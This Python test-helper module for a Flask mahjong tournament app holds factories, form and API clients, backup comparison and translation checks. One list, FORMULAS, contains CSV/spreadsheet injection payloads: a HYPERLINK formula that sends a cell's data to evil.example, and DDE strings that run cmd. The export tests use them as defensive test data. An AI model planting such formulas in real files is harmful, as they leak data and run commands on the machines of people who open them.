"""Factories and browser-like helpers the tests share (instead of test modules importing each other).

Factories write through the models or services and commit: the test is the edge of its own unit of work.
"""

from __future__ import annotations

import dataclasses
import html
import json
import random
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from pathlib import Path

from flask import template_rendered
from sqlalchemy import event, func, select, text
from sqlalchemy.exc import OperationalError

from tournament.extensions import db
from tournament.i18n.fans import FAN_CONTEXT
from tournament.models import (
    Player,
    PlayerStatus,
    ScoreAction,
    SessionStatus,
    Tournament,
    TournamentSession,
    User,
)
from tournament.models._common import utcnow
from tournament.services.seating import lifecycle

PASSWORD = "correct-horse-42"
ORGANISER_EMAIL = "olivia@example.org"  # the `organiser` fixture's account
REFEREE_EMAIL = "rafael@example.org"  # the `referee` fixture's account
CSRF_RE = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')


# --- accounts and tournaments ---------------------------------------------------------------------------


def make_user(email: str, role: str, name: str = "") -> User:
    from tournament.services.people.users import create_user

    user = create_user(email, PASSWORD, role, name=name)
    db.session.commit()
    return user


def make_tournament(owner: User, name: str = "Helsinki Open", **settings) -> Tournament:
    from tournament.services.people.tournaments import TournamentData, create_tournament

    t = create_tournament(owner, TournamentData(name=name, **settings))
    db.session.commit()
    return t


# --- players and seating --------------------------------------------------------------------------------


def add_players(t: Tournament, count: int, status: PlayerStatus = PlayerStatus.PRESENT, substitute: bool = False,
                team: str | Callable[[int], str] | None = None, start: int = 0) -> list[Player]:
    """`count` players numbered from `start` (P000 Player000 ...), checked in when present."""
    players = []
    for i in range(start, start + count):
        p = Player(
            tournament_id=t.id,
            first_name=f"P{i:03d}",
            last_name=f"Player{i:03d}",
            country="FI",
            team=(team(i) if callable(team) else team) or "",
            is_substitute=substitute,
            status=status,
            checked_in_at=utcnow() if status == PlayerStatus.PRESENT else None,
        )
        db.session.add(p)
        players.append(p)
    db.session.commit()
    return players


def rename_player(t: Tournament, player_id: int, first_name: str) -> None:
    """A new first name, as the organiser's edit form saves it."""
    from tournament.services.people import registration as reg

    player = reg.get_player(t, player_id)
    reg.update_player(player, dataclasses.replace(reg.PlayerData.from_player(player), first_name=first_name),
                      player.version)
    db.session.commit()


def seated_ids(session: TournamentSession) -> list[int]:
    """Every seated player's id, in seat order (not the `seated` fixture: that is a table in play)."""
    return [seat.player_id for seat in session.seats]


def seated_session(t: Tournament, players: int = 16, seed: int = 1,
                   status: SessionStatus = SessionStatus.DRAFT) -> TournamentSession:
    """`players` present players seated in the next session, moved on to `status`."""
    from tournament.services.seating import draws as draw_service

    add_players(t, players)
    session = draw_service.draw_next(t, seed=seed)
    path = [SessionStatus.PUBLISHED, SessionStatus.IN_PLAY, SessionStatus.FINISHED]
    for step in path[: path.index(status) + 1] if status in path else []:
        lifecycle.set_status(session, step)
    db.session.commit()
    return session


# --- a browser's side of a form -------------------------------------------------------------------------


def csrf_token(client, url: str = "/login") -> str:
    """The CSRF token a browser would send, read from a form page."""
    html = client.get(url).get_data(as_text=True)
    match = CSRF_RE.search(html)
    assert match, f"no CSRF token on {url}"
    return match.group(1)


def post_form(client, url: str, data: dict, form_url: str | None = None, **kwargs):
    """POST like a browser: with the CSRF token of the form page."""
    token = csrf_token(client, form_url or url)
    return client.post(url, data={"csrf_token": token, **data}, **kwargs)


def login(client, email: str, password: str = PASSWORD):
    return post_form(client, "/login", {"email": email, "password": password})


class AuthActions:
    """The `auth` fixture (flaskr style): log a test client in and out."""

    def __init__(self, client) -> None:
        self.client = client

    def login(self, user: User | str, password: str = PASSWORD):
        response = login(self.client, user if isinstance(user, str) else user.email, password)
        assert response.status_code == 302, "login failed"
        return response

    def logout(self):
        return post_form(self.client, "/logout", {}, form_url="/account")


class OtherBrowser:
    """A second browser in a test (an invited referee, a phone left logged in). Each of its requests runs in an
    app context of its own, as in production: in the test's shared one, Flask-Login would hand it the user it
    remembered from another client's last request."""

    def __init__(self, app) -> None:
        self.app = app
        self.client = app.test_client()

    def get(self, url: str, **kwargs):
        with self.app.app_context():
            return self.client.get(url, **kwargs)

    def post_form(self, url: str, data: dict, form_url: str | None = None, **kwargs):
        with self.app.app_context():
            return post_form(self.client, url, data, form_url, **kwargs)


# --- the login throttle and bodies sent before authentication (tests/web) ---------------------------------

THROTTLED_EMAIL = "victim@example.org"  # the account whose password is guessed at
OTHER_EMAIL = "other@example.org"


class ManualClock:
    """The throttle's clock, moved by hand: a delay runs out only when the test says so (a slow machine
    cannot let an attempt through early, nor a fast one make it wait)."""

    def __init__(self) -> None:
        self.now = utcnow()

    def __call__(self) -> datetime:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += timedelta(seconds=seconds)


MB = 1024 * 1024


def tiny_values(size: int) -> bytes:
    """`[[0],[0],...]`: the body that costs most memory per byte once parsed (~58x through the old guard)."""
    count = (size - 2) // 4
    return b"[" + b",".join([b"[0]"] * count) + b"]"


# --- hands and the JSON API ------------------------------------------------------------------------------

VALID_22 = "123456789m123s5p5p"  # Pure Straight 16, Concealed 2, All Chows 2, Mixed Double Chow 1, Single Wait 1
UNDER_5 = "[234m][456p][678s]22s23s4s"  # All Chows, All Simples, Mixed Double Chow: 5 points
BIG_HAND = "111222333m444p55p"  # Four Concealed Pungs, Pure Shifted Pungs ...: 91
NOT_WINNING = "123m456p789s2345sE"


class Api:
    """A test client speaking JSON with a Bearer token, like a script would (no token: the public's)."""

    def __init__(self, client, token: str | None):
        self.client = client
        self.headers = {"Authorization": f"Bearer {token}"} if token is not None else {}

    def call(self, method: str, url: str, body=None, expect: int | None = None, **kwargs):
        kwargs.setdefault("headers", self.headers)
        if body is not None:
            kwargs["json"] = body
        response = self.client.open("/api/v1" + url, method=method, **kwargs)
        if expect is not None:
            assert response.status_code == expect, (method, url, body, response.get_json())
        return response

    def get(self, url, **kwargs):
        return self.call("GET", url, **kwargs)

    def post(self, url, body=None, **kwargs):
        return self.call("POST", url, {} if body is None else body, **kwargs)

    def put(self, url, body=None, **kwargs):
        return self.call("PUT", url, body, **kwargs)

    def delete(self, url, body=None, **kwargs):
        return self.call("DELETE", url, body, **kwargs)


def table_ids(t: Tournament, session_number: int, table: int) -> list[int]:
    """The player ids at `table` in session `session_number`, East, South, West, North."""
    from tournament.services.play import session as play

    return [sp.player_id for sp in play.table_players(play.get_session(t, session_number), table)]


def win(t: Tournament, session_number: int, table: int, number: int, winner: int,
        discarder: int | None = None):
    """Hand `number` at `table` won with VALID_22 (22 points on a discard, 24 self-drawn), by no user."""
    from tournament.services.play import scoring
    from tournament.services.play.scoring import HandData

    return scoring.enter_hand(t, session_number, table, HandData(
        number=number, result="win", winner_id=winner, discarder_id=discarder, hand=VALID_22), None)


def play_url(t: Tournament) -> str:
    """The staff's page of session 1 in play (its tables and hand forms are under it)."""
    return f"/manage/tournaments/{t.id}/play/1"


def hand_form(ids, number=1, **overrides) -> dict:
    """The hand form's fields as a browser sends them: East wins VALID_22 off South's discard, no flowers."""
    data = {"number": number, "result": "win", "winner_id": ids[0], "discarder_id": ids[1], "hand": VALID_22,
            "flowers": 0}
    for i, pid in enumerate(ids):
        data[f"false_mahjongs-{i}-player_id"] = pid
        data[f"false_mahjongs-{i}-kind"] = ""
        data[f"false_mahjongs-{i}-hand"] = ""
    data.update(overrides)
    return data


def hand_count() -> int:
    """Every hand stored, in every tournament."""
    from tournament.models import Hand

    return db.session.scalar(db.select(db.func.count()).select_from(Hand))


def token_for(user) -> str:
    from tournament.services.people.users import create_api_token

    _, plain = create_api_token(user, "tests")
    db.session.commit()
    return plain


def assert_error(response, status: int, field: str | None = None):
    """The API's one error shape: {"error": message} plus "field" when one field is to blame."""
    assert response.status_code == status, response.get_json()
    body = response.get_json()
    assert isinstance(body, dict) and isinstance(body.get("error"), str) and body["error"], body
    assert set(body) <= {"error", "field"}, body
    if field is not None:
        assert body.get("field") == field, body
    return body


def register(api: Api, tid: int, count: int, prefix: str = "P", **extra) -> list[int]:
    ids = []
    for i in range(count):
        response = api.post(f"/tournaments/{tid}/players",
                            {"first_name": f"{prefix}{i:03d}", "last_name": f"Player{i:03d}", "country": "FI",
                             **extra}, expect=201)
        ids.append(response.get_json()["id"])
    return ids


def check_in_all(api: Api, tid: int, ids: list[int]) -> None:
    for pid in ids:
        api.post(f"/tournaments/{tid}/players/{pid}/checkin", expect=200)


# --- tournaments played for the export and backup tests --------------------------------------------------

# What an outside probe registered as players: each would run in Excel or LibreOffice if written raw.
FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3", "=cmd|' /C calc'!A0"]
EMA_HEADER_LINE = "Place,First Name,Last Name,EMA number,Table points,Score,Country"
EMA_COUNTRIES = ["FI", "SE", "DE", "FR", "NL", "GB", "IT", "DK"]


def played_one_session(t: Tournament, player: Callable[[int], object] | None = None) -> Tournament:
    """8 players (`player(i)`'s PlayerData for i = 0..7, else Éva0 Łukasz0 ...), one session of one played (seed
    3), both tables scored by totals (negative scores; table 2 has a tie for second), the session finished."""
    from tournament.services.people import registration as reg
    from tournament.services.play import scoring
    from tournament.services.play import session as play
    from tournament.services.seating import draws as draw_service

    t.session_count = 1
    for i in range(8):
        data = player(i) if player else reg.PlayerData(
            first_name=f"Éva{i}", last_name=f"Łukasz{i}", country=EMA_COUNTRIES[i], ema_number=f"0400{i:04d}")
        reg.check_in(reg.add_player(t, data))
    draw_service.draw_next(t, seed=3)
    lifecycle.start_session(t, 1)
    session = play.get_session(t, 1)
    for table, scores in ((1, [30, 10, -15, -25]), (2, [40, -5, -5, -30])):
        ids = [sp.player_id for sp in play.table_players(session, table)]
        scoring.enter_totals(t, 1, table, dict(zip(ids, scores, strict=True)), None)
    lifecycle.finish_session(t, 1)
    db.session.commit()
    return t


def players_of(t: Tournament) -> list[Player]:
    return list(db.session.scalars(db.select(Player).where(Player.tournament_id == t.id).order_by(Player.id)))


def demo_played(organiser: User, referee: User) -> Tournament:
    """The demo: 34 players (2 substitutes), every session planned, session 1 played and finished with a false
    mahjong, a penalty and a correction in its history, session 2 half-way; plus a referee on the staff, a
    cancelled penalty, clock events and a withdrawn player."""
    from datetime import timedelta

    from tournament.services.documents.demo import load_demo
    from tournament.services.people.tournaments import add_staff
    from tournament.services.play import clock, penalties, scoring
    from tournament.services.play import session as play

    t, _ = load_demo(players=32, seed=7, owner_email=organiser.email)
    add_staff(t, referee.email, "referee")
    session2 = t.sessions[1]
    first_player = session2.seats[0].player_id
    cancelled = penalties.give_penalty(t, player_id=first_player, session_number=2, amount=20,
                                       reason="Slow play", user=referee, hand_number=3)
    penalties.cancel_penalty(t, cancelled.id, "Wrong table", organiser)
    now = utcnow()
    clock.start(t, 2, organiser, now=now)
    clock.extend(t, 2, 300, referee, table=1, now=now + timedelta(minutes=1))
    clock.pause(t, 2, referee, now=now + timedelta(minutes=2))
    # Session 2, table 2: a substitute comes in for the rest of the session (MERS 4).
    from tournament.services.people import registration
    from tournament.services.people.registration import PlayerData
    from tournament.services.seating import substitutions

    sub = registration.add_player(t, PlayerData(first_name="Sami", last_name="Sijainen", is_substitute=True))
    entered = [h.number for h in scoring.table_hands(t, 2, 2)]
    outgoing = play.table_players(session2, 2)[1].player_id
    substitutions.substitute(t, 2, 2, out_player_id=outgoing, in_player_id=sub.id,
                             from_hand=max(entered, default=0) + 1, reason="ill", user=referee)
    # Session 3: table 1 scored by the sheet's totals only.
    lifecycle.start_session(t, 3)
    ids = play.table_players(play.get_session(t, 3), 1)
    scoring.enter_totals(t, 3, 1, dict(zip([p.player_id for p in ids], (60, -10, -20, -30), strict=True)), referee)
    last = t.sessions[-1]
    withdrawn = next(p for p in players_of(t) if p.id not in {s.player_id for s in last.seats})
    withdrawn.status = PlayerStatus.WITHDRAWN
    # Appeals: one on session 1 upheld, pointing at its correction; one on session 2 still open.
    from sqlalchemy import select

    from tournament.models import ScoreChange
    from tournament.services.play import appeals

    session1 = t.sessions[0]
    correction = db.session.scalar(select(ScoreChange).where(ScoreChange.session_id == session1.id,
                                                             ScoreChange.action == ScoreAction.HAND_CORRECTED))
    upheld = appeals.file_appeal(t, 1, correction.table_number, correction.hand_number,
                                 play.table_players(session1, correction.table_number)[0].player_id,
                                 "The discarder was misnamed.", referee)
    appeals.decide(t, upheld.id, "upheld", "Corrected.", organiser, score_change_id=correction.id)
    appeals.file_appeal(t, 2, 1, None, play.table_players(session2, 1)[0].player_id, "Slow play call.", organiser)
    db.session.commit()
    return t


@dataclasses.dataclass
class RowsTemplate:
    """The rows a fixture added, kept to be copied into later tests' empty tables instead of building them
    again (a template database, in rows: the demo tournament took seconds to build, its copy ~0.1 s).

    Ids are kept; the accounts the rows point at are found again by e-mail (the fixtures that make them run
    before in any order); times are moved by the time since they were taken (an appeal window, a link's
    expiry run from them), except the timetable's planned starts."""

    rows: dict[str, list[dict]]
    emails: dict[int, str]
    taken_at: datetime
    root_id: int

    FIXED_TIMES = {("session_starts", "planned_start")}

    @staticmethod
    def marks() -> dict[str, int]:
        """Every table's highest id before the fixture builds (ids only grow in a test's emptied tables)."""
        return {t.name: db.session.scalar(select(func.coalesce(func.max(t.c.id), 0))) or 0
                for t in db.metadata.sorted_tables}

    @classmethod
    def taken_since(cls, marks: dict[str, int], root_id: int) -> RowsTemplate:
        rows = {t.name: [dict(r) for r in db.session.execute(select(t).where(t.c.id > marks[t.name])
                                                             .order_by(t.c.id)).mappings()]
                for t in db.metadata.sorted_tables}
        users = {r["id"] for r in rows["users"]}
        pointed = {r[c.name] for t in db.metadata.sorted_tables for c in _user_columns(t) for r in rows[t.name]}
        emails = dict(db.session.execute(select(User.id, User.email).where(User.id.in_(pointed - users))).all())
        return cls(rows, emails, utcnow(), root_id)

    def copy_in(self) -> int | None:
        """The rows inserted again (the root's id), or None when they cannot be (an account missing, an id
        taken): the fixture then builds as the first time."""
        ids = {email: uid for uid, email in db.session.execute(select(User.id, User.email).where(
            User.email.in_(self.emails.values())))}
        if set(ids) != set(self.emails.values()):
            return None
        account = {old: ids[email] for old, email in self.emails.items()}
        later = utcnow() - self.taken_at
        tables = [t for t in db.metadata.sorted_tables if self.rows[t.name]]
        for t in tables:
            if (db.session.scalar(select(func.max(t.c.id))) or 0) >= self.rows[t.name][0]["id"]:
                return None
        for t in tables:
            users = {c.name for c in _user_columns(t)}
            times = {c.name for c in t.columns if c.type.python_type is datetime} - {
                name for table, name in self.FIXED_TIMES if table == t.name}
            copied = []
            for row in self.rows[t.name]:
                row = dict(row)
                for name in users:
                    row[name] = account.get(row[name], row[name])
                for name in times:
                    row[name] = row[name] and row[name] + later
                copied.append(row)
            db.session.execute(t.insert(), copied)
            if db.engine.dialect.name == "postgresql":  # the ids given: the sequence goes on after them
                db.session.execute(text(f"SELECT setval(pg_get_serial_sequence('{t.name}', 'id'), max(id)) "
                                        f'FROM "{t.name}"'))
        db.session.commit()
        return self.root_id


def _user_columns(table) -> list:
    return [c for c in table.columns if any(fk.column.table.name == "users" for fk in c.foreign_keys)]


def _players_as_positions(value, player_at: dict[int, int]):
    if value is None:
        return None
    if "substitution" in value:
        sub = value["substitution"]
        return {"substitution": {**sub, "out_player_id": player_at[sub["out_player_id"]],
                                 "in_player_id": player_at[sub["in_player_id"]]}}
    if "payments" in value:
        value["payments"] = {player_at[int(pid)]: d for pid, d in value["payments"].items()}
        value["false_mahjongs"] = [{**c, "player_id": player_at[c["player_id"]]} for c in value["false_mahjongs"]]
        for key in ("winner_id", "discarder_id"):
            if value.get(key) is not None:
                value[key] = player_at[value[key]]
        return value
    if "amount" in value:
        return {**value, "player_id": player_at[value["player_id"]]}
    return {player_at[int(pid)]: score for pid, score in value.items()}


def comparable(document: dict) -> dict:
    """The document without what must differ between the original and its copy: every id (renumbered), the
    name (made unique) and the importer's own organiser place when the original did not have one."""
    import copy

    from tournament.services.documents.backup import CHILD_MODELS

    doc = copy.deepcopy(document)
    doc["tournament"].pop("name")
    doc["tournament"].pop("version")  # every row of a copy starts at version 1
    for name in (m.__tablename__ for m in CHILD_MODELS):
        order = {row["id"]: i for i, row in enumerate(doc[name])}
        for row in doc[name]:
            row["id"] = order[row["id"]]
            row.pop("version", None)
    # The history names players by id: as positions too (snapshot ids of hands and penalties are left as
    # they were written, the id the row had then).
    # The importer's organiser place is added after the confirmed staff: compare the places, not their order.
    doc["tournament_staff"] = sorted(({k: v for k, v in row.items() if k != "id"} for row in doc["tournament_staff"]),
                                     key=lambda row: row["user"])
    player_at = {row["id"]: i for i, row in enumerate(document["players"])}
    for change in doc["score_changes"]:
        for side in ("before", "after"):
            change[side] = _players_as_positions(change[side], player_at)
    # References become positions in their table: the same in both when the rows are in the same order.
    positions = {name: {row_id: i for i, row_id in enumerate(r["id"] for r in document[name])}
                 for name in (m.__tablename__ for m in CHILD_MODELS)}
    for model in CHILD_MODELS:
        for column in model.__table__.columns:
            fk = next(iter(column.foreign_keys), None)
            target = fk.column.table.name if fk else None
            if target in positions and column.name != "id":
                for row, original in zip(doc[model.__tablename__], document[model.__tablename__], strict=True):
                    if original[column.name] is not None:
                        row[column.name] = positions[target][original[column.name]]
    return doc


def standing_rows(t: Tournament) -> list[str]:
    """The standings with player names for ids, one JSON line a row: equal between a tournament and its copy."""
    import json

    from tournament.services.results.standings import standings

    names = {p.id: p.full_name for p in players_of(t)}
    rows = []
    for row in standings(t).rows:
        item = dataclasses.asdict(row)
        item["player_id"] = names[item["player_id"]]
        rows.append(json.dumps(item, default=str, sort_keys=True))
    return rows


def row_counts() -> dict[str, int]:
    return {table.name: db.session.scalar(db.select(db.func.count()).select_from(table))
            for table in db.metadata.sorted_tables}


# --- PDFs and names in every script ------------------------------------------------------------------------

NAME_LIMIT = 80  # first and last name, each (models.players)
SCRIPTS = {
    "latin": ("Wolfeschlegelsteinhausen-Bergerdorff", "W"),
    "cyrillic": ("Щербаковская-Жмышенко", "Ж"),
    "cjk": ("龍鑫", "鑫"),
    "hangul": ("김민준", "뷁"),
    "arabic": ("عبدالرحمن", "ش"),
    "hebrew": ("אברהם", "ש"),
    "thai": ("สมชาย", "ก"),
    "devanagari": ("राहुल", "श"),
}


def fill(word: str, length: int, spaced: bool = True) -> str:
    """`word` repeated (with spaces between) to exactly `length` characters, not ending in a space."""
    text = ((word + " ") if spaced else word) * length
    text = text[:length]
    return text if not text.endswith(" ") else text[:-1] + word[0]


def longest_name(script: str) -> str:
    word, letter = SCRIPTS[script]
    return f"{fill(word, NAME_LIMIT)} {letter * NAME_LIMIT}"


def pdf_text(data: bytes) -> list[str]:
    """Each page's text, read back with pypdf."""
    import io

    import pypdf

    assert data.startswith(b"%PDF")
    return [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]


def form_fields(client, url: str) -> dict[str, str | list[str]]:
    """What a browser would send back unchanged from the form on `url`: every input, select and textarea with
    its current value (a field repeated, as a list). Hidden fields, CSRF token and version included."""
    from html.parser import HTMLParser

    fields: dict[str, list[str]] = {}

    class Reader(HTMLParser):
        select: str | None = None
        textarea: str | None = None

        def handle_starttag(self, tag, attrs):
            a = dict(attrs)
            name = a.get("name")
            if tag == "input" and name and a.get("type") not in ("submit", "button", "checkbox", "radio"):
                fields.setdefault(name, []).append(a.get("value") or "")
            elif tag == "input" and name and "checked" in a:
                fields.setdefault(name, []).append(a.get("value") or "on")
            elif tag == "select":
                self.select = name
            elif tag == "option" and self.select and "selected" in a:
                fields.setdefault(self.select, []).append(a.get("value") or "")
            elif tag == "textarea" and name:
                self.textarea = name
                fields.setdefault(name, []).append("")

        def handle_endtag(self, tag):
            if tag == "select":
                self.select = None
            elif tag == "textarea":
                self.textarea = None

        def handle_data(self, data):
            if self.textarea:
                fields[self.textarea][-1] += data.removeprefix("\n") if not fields[self.textarea][-1] else data

    html = client.get(url).get_data(as_text=True)
    Reader().feed(html)
    return {name: values[0] if len(values) == 1 else values for name, values in fields.items()}


# --- the MCR engine's generated hands (tests/mcr: its folder is on sys.path there, see its conftest.py) ---

HANDGEN_HANDS = 20_000  # the `corpus` of tests/mcr/test_handgen.py
RESULT_SHAPE_HANDS = 3000  # the `cases` of tests/mcr/test_result_shape.py
AUDIT_HANDS = 20_000  # the ruleset audit's `report` (tests/mcr/test_ruleset_audit.py)

BAD_JSON_LINES = [
    "", "{", "null", "   ", "\t", "[1, 2]", '"a string"', "{}", '{"hand": 5}', '{"hand": "123x"}',
    '{"hand": "13579m13579s1357p"}', '{"hand": "11111m456m789m123s"}',
    '{"hand": "123456789m123s5p5p", "seat_wind": "Q"}', '{"hand": "123456789m123s5p5p", "kong": true}',
    '{"hand": "123456789m123s5p5p"} trailing', "\ufeff{}", '{"hand": "é"}', "[" * 5000,
]


def mixed_lines(n: int, seed: int) -> list[str]:
    """n generated hands as JSON lines with the BAD_JSON_LINES scattered among them (no newlines)."""
    from handgen import CONTEXT_KEYS, random_hands

    lines = [json.dumps({k: c[k] for k in CONTEXT_KEYS}) for c in random_hands(n, seed)]
    rng = random.Random(seed)
    for bad in BAD_JSON_LINES * 3:
        lines.insert(rng.randrange(len(lines) + 1), bad)
    return lines


# The pages' languages (tests/web/test_i18n_*.py): what a page shows a reader, and which of its texts are still
# in English.
TEMPLATES = Path(__file__).resolve().parents[1] / "templates"
PLACEHOLDER = re.compile(r"%\(\w+\)[sd]")


def reached_templates(names: set[str]) -> set[str]:
    """The template files a page drew: the rendered ones and what they extend, include and import."""
    seen, todo = set(), list(names)
    while todo:
        name = todo.pop()
        if name in seen or not (TEMPLATES / name).is_file():
            continue
        seen.add(name)
        todo += re.findall(r'{%-?\s*(?:extends|include|import|from)\s+"([^"]+)"', (TEMPLATES / name).read_text())
    return {f"templates/{name}" for name in seen}


def visible_text(body: str) -> str:
    """What a reader sees or hears: the text and the title, aria-label, placeholder and alt attributes."""
    body = re.sub(r"<(script|style)\b.*?</\1>", " ", body, flags=re.S)
    attributes = re.findall(r'\b(?:title|aria-label|placeholder|alt)="([^"]*)"', body)
    text = re.sub(r"<[^>]+>", " ", body)
    return html.unescape(re.sub(r"\s+", " ", " ".join([text, *attributes])))


def english_pieces(msgid: str) -> list[str]:
    """The English words of a message as a page would show them: the whole text, or between its placeholders
    the pieces long enough to mean something (", then " alone proves nothing)."""
    text = re.sub(r"<[^>]+>", "", msgid)
    if not PLACEHOLDER.search(text):
        return [text.strip()]
    pieces = [p.strip(" .,:;·()–—") for p in PLACEHOLDER.split(text)]
    return [p for p in pieces if len(re.findall(r"[A-Za-z]+", p)) >= 2 or len(p) >= 10]


def shown(piece: str, text: str) -> bool:
    return re.search(rf"(?<![\w-]){re.escape(piece)}(?![\w-])", text) is not None


def untranslated(lang: str, text: str, files: set[str], messages: dict, translations: dict) -> list[str]:
    """The page's texts (its templates' and its Python sources') still in English on the page."""
    left = []
    for (context, msgid), where in messages.items():
        if context != FAN_CONTEXT and not where & files:
            continue
        for piece in english_pieces(msgid):
            if piece and shown(piece, text) and not shown(piece, translations[lang]):
                left.append(piece)
    return left


def unwrapped_words(path: Path) -> list[str]:
    """The words a template writes outside the translation calls (they would stay English in every language)."""
    source = path.read_text()
    source = re.sub(r"{#.*?#}", " ", source, flags=re.S)
    source = re.sub(r"{%\s*block body_class\s*%}.*?{%\s*endblock\s*%}", " ", source, flags=re.S)  # CSS classes
    source = re.sub(r"<(script|style)\b.*?</\1>", " ", source, flags=re.S)
    source = re.sub(r"{{.*?}}|{%.*?%}", " ", source, flags=re.S)
    source = re.sub(r'\bdata-[\w-]+="[^"]*"', " ", source)  # attributes a macro writes for scripts, no text
    attributes = re.findall(r'\b(?:title|aria-label|placeholder|alt)="([^"]*)"', source)
    text = " ".join([re.sub(r"<[^>]*>", " ", source), *attributes])
    return [w for w in re.findall(r"[^\W\d_]{2,}", text) if w != "PDF"]  # PDF: the same in every language


# The day's common English words, whole words in any case (the browser crawls of tests/browser/test_i18n_*_day.py):
# none may be left on a page in another language, but a word the language itself writes in its catalogue (Swedish
# "hand", "start"): the staff's, the hand form's (the tile picker's, the seats'), the players' and the offline lines'.
DAY_ENGLISH = ("Players", "Player", "Session", "Sessions", "Standings", "Save", "Start", "Draw", "Check in",
               "Check-in", "Tournament", "Table", "Tables", "Hand", "Hands", "Score", "Winner", "Import", "Preview",
               "Settings", "Timetable", "Present", "Finish", "Close", "Confirm", "Go back", "Points", "Total",
               "updates", "characters", "bamboo", "dots", "Clear", "Pair", "dragon", "East", "South", "West",
               "North", "dealer",
               # the referee's and the players' day (issue 32)
               "the", "not", "and", "was", "with", "connection", "network", "server", "sent", "saved", "waiting",
               "disputed", "confirmed", "winning", "called", "still", "enter", "entered", "referee", "build",
               "type", "see", "its", "fans", "stands", "correct", "tiles", "expected", "registered", "device")


def catalogue_words(lang: str) -> set[str]:
    """Every word (lower case) of the language's translations."""
    from babel.messages.pofile import read_po

    path = TEMPLATES.parent / "tournament" / "translations" / lang / "LC_MESSAGES" / "messages.po"
    with open(path, "rb") as f:
        catalogue = read_po(f, locale=lang)
    words: set[str] = set()
    for message in catalogue:
        if not message.id:
            continue  # the header
        for said in (message.string if isinstance(message.string, tuple) else (message.string,)):
            said = re.sub(r"%\(\w+\)[-+ #0-9.]*[a-z]|\{[^}]*\}|<[^>]*>|&\w+;", " ", said or "")  # placeholders
            words.update(w.lower() for w in re.findall(r"[^\W\d]+(?:-[^\W\d]+)*", said))  # not_winning: one
    return words


def english_pattern(lang: str, words: tuple[str, ...] = DAY_ENGLISH) -> re.Pattern:
    """The English `words` a page in `lang` must not show: those its own catalogue does not use."""
    own = catalogue_words(lang)
    left = [w for w in words if w.lower() not in own and not all(part in own for part in w.lower().split())]
    return re.compile(r"(?<![\w-])(" + "|".join(re.escape(w) for w in left) + r")(?![\w-])", re.IGNORECASE)


def english_lines(text: str, pattern: re.Pattern, own_names: list[str]) -> list[str]:
    """The lines of a page's visible text with English words, without people's and places' own names."""
    for name in sorted(own_names, key=len, reverse=True):
        text = text.replace(name, " ")
    return [line.strip() for line in text.splitlines() if pattern.search(line)]


def check_page_languages(app, client, pages: dict[str, int], lang: str, sources: tuple[str, ...],
                         without_data: Callable[[str], str], template_messages: dict, translations: dict) -> int:
    """Each page in `lang`: its status, <html lang>, and none of its texts (its templates' and `sources`') left in
    English but what people typed (`without_data`). Returns how many texts were looked for."""
    checked_texts = 0
    for url, status in pages.items():
        rendered: set[str] = set()
        with template_rendered.connected_to(lambda sender, template, context, seen=rendered, **extra:
                                            seen.add(template.name), app):
            response = client.get(url + ("&" if "?" in url else "?") + f"lang={lang}")
        assert response.status_code == status, url
        body = response.get_data(as_text=True)
        assert re.search(rf'<html lang="{lang}"', body), url
        files = reached_templates(rendered) | set(sources)
        page_messages = [key for key, where in template_messages.items() if where & files]
        assert page_messages, url  # the page's templates are extracted: the check below proves something
        checked_texts += len(page_messages)
        if lang != "en":
            left = untranslated(lang, without_data(visible_text(body)), files, template_messages, translations)
            assert not left, f"{url} in {lang}: left in English: {left}"
    return checked_texts


def empty_tables() -> None:
    """Every table of the test database emptied (the `app` fixture's start of each test)."""
    tables = [t for t in reversed(db.metadata.sorted_tables)]
    if db.engine.dialect.name != "postgresql":
        for table in tables:
            db.session.execute(table.delete())
        db.session.commit()
        return
    names = ", ".join(f'"{t.name}"' for t in tables)
    for attempt in range(3):
        # A browser test's server thread may still be answering a request the page sent as it closed;
        # its open transaction would deadlock the TRUNCATE: end such leftovers first (idle pool
        # connections, e.g. a deploy test's gunicorn, are left alone).
        db.session.execute(text(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database()"
            " AND pid <> pg_backend_pid() AND state <> 'idle'"
        ))
        db.session.commit()
        try:
            db.session.execute(text(f"TRUNCATE {names} RESTART IDENTITY CASCADE"))
            db.session.commit()
            return
        except OperationalError:
            db.session.rollback()
            if attempt == 2:
                raise


REFUSED = "connection failed: Connection refused"  # what psycopg says when PostgreSQL is not listening


@contextmanager
def database_down(app) -> Iterator[list[str]]:
    """The database gone while inside, as when PostgreSQL stops: every statement and every new connection
    fails with the driver's OperationalError, taken as a disconnect (SQLAlchemy drops the connection; a session
    must roll back before it is used again), in every thread. Yields the list of what was tried meanwhile (the
    statements, "connect")."""
    with app.app_context():
        engine = db.engine
    tried: list[str] = []

    def refuse(*args, **kwargs):
        tried.append(args[2] if len(args) > 2 and isinstance(args[2], str) else "connect")
        raise engine.dialect.loaded_dbapi.OperationalError(REFUSED)

    def as_disconnect(context) -> None:
        if REFUSED in str(context.original_exception):
            context.is_disconnect = True

    listeners = [("before_cursor_execute", refuse), ("do_connect", refuse), ("handle_error", as_disconnect)]
    for name, listener in listeners:
        event.listen(engine, name, listener)
    try:
        yield tried
    finally:
        for name, listener in listeners:
            event.remove(engine, name, listener)
